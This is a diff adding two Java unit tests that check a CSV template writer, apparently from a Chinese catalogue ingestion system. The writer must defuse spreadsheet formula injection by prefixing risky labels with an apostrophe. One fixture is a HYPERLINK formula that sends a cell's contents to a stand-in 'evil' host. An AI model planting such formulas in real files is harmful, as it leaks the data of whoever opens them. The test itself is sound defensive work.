@@ -5,10 +5,20 @@ import java.nio.charset.StandardCharsets;
 import java.nio.file.Path;
 import java.time.Instant;
 import java.util.Iterator;
+import java.util.List;
 import java.util.Map;
 import java.util.Optional;
 import java.util.UUID;
 
+import cn.chengxin.catalog.domain.Category;
+import cn.chengxin.catalog.domain.Domain;
+import cn.chengxin.catalog.domain.FieldDefinition;
+import cn.chengxin.catalog.domain.ItemDefinition;
+import cn.chengxin.catalog.domain.Nature;
+import cn.chengxin.catalog.domain.Severity;
+import cn.chengxin.catalog.domain.Sharing;
+import cn.chengxin.catalog.domain.SubjectType;
+import cn.chengxin.catalog.domain.UpdateCycle;
 import cn.chengxin.ingestion.parsing.FileProblem;
 import cn.chengxin.ingestion.parsing.FileProblemCode;
 import cn.chengxin.ingestion.parsing.RowSource;
@@ -35,6 +45,38 @@ class FileSubmissionsTests {
                 new ResponsiblePersonSent("DIRECTLY_RESPONSIBLE", "C", "丙", "responsiblePersonIds[1]",
                         "responsiblePersonNames[1]"));
         assertThat(row.fields()).isEmpty();
+    }
+
+    /**
+     * A catalogue administrator types the labels; the department opens the template in a spreadsheet: a label that
+     * starts a formula is written with a leading apostrophe (shown, never run), one with a comma is quoted.
+     */
+    @Test
+    void writesTheTemplateSoThatNoLabelRunsAsAFormula() {
+        ItemDefinition item = item(List.of(FieldDefinition.text("link", "=HYPERLINK(\"http://evil/?\"&C2,\"点击\")", true),
+                FieldDefinition.text("fine", "-罚款", false), FieldDefinition.text("who", "@承办人", false),
+                FieldDefinition.text("sum", "+合计", false), FieldDefinition.text("wide", "＝全角", false),
+                FieldDefinition.text("facts", "事实,经过", false)));
+
+        String template = new String(FileSubmissions.templateCsv(item), StandardCharsets.UTF_8);
+
+        assertThat(template).startsWith("\uFEFF事项代码,证件类型,").endsWith(
+                ",撤销原因,\"'=HYPERLINK(\"\"http://evil/?\"\"&C2,\"\"点击\"\")\",'-罚款,'@承办人,'+合计,'＝全角,"
+                        + "\"事实,经过\"\r\n");
+    }
+
+    /** A template edited as text keeps the apostrophe before such a label: the column still names its field. */
+    @Test
+    void readsATemplatesNeutralisedLabelAsTheLabel() {
+        IncomingRecord row = FileSubmissions.toRecord(Map.of("事项代码", "P_X", "'-罚款", "5", "'don't", "x"));
+
+        assertThat(row.fields()).containsOnly(Map.entry("-罚款", "5"), Map.entry("'don't", "x"));
+    }
+
+    private static ItemDefinition item(List<FieldDefinition> fields) {
+        return new ItemDefinition("P_TEST_ITEM", "测试事项", SubjectType.PERSON, Nature.NEGATIVE,
+                Category.ADMINISTRATIVE_PENALTY, Domain.GENERAL, fields, List.of("MARKET"), "某法第一条", Sharing.PUBLIC,
+                Severity.GENERAL, null, null, null, true, true, true, UpdateCycle.DAILY, false, null);
     }
 
     @Test
